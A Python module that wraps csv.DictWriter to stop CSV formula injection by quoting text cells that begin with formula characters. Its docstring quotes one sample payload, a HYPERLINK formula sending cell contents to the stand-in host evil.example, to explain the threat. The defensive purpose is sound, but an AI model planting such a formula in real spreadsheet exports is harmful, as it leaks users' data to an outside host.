"""CSV for spreadsheets: a text cell never starts a formula.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking) is run as a formula when the file is opened: a note typed as
`=HYPERLINK("https://evil.example/?"&A1, "see")` sends the row away (OWASP "CSV injection").
Such a text cell gets a leading `'`, which spreadsheets show as text; numbers stay numbers.
Every CSV this project writes goes through `dict_writer`."""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as written: a text that would start a formula is quoted with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose text cells (the header too) never start a formula."""

    def writeheader(self) -> Any:
        return self.writer.writerow([cell(name) for name in self.fieldnames])

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def dict_writer(stream: TextIO, fieldnames: Sequence[str]) -> SafeDictWriter:
    """The one way to write CSV here. Rows end in CRLF (RFC 4180): with a bare `\\n` the csv
    module left a carriage return inside a cell unquoted, and it split the row in two."""
    return SafeDictWriter(stream, fieldnames=fieldnames, lineterminator="\r\n")
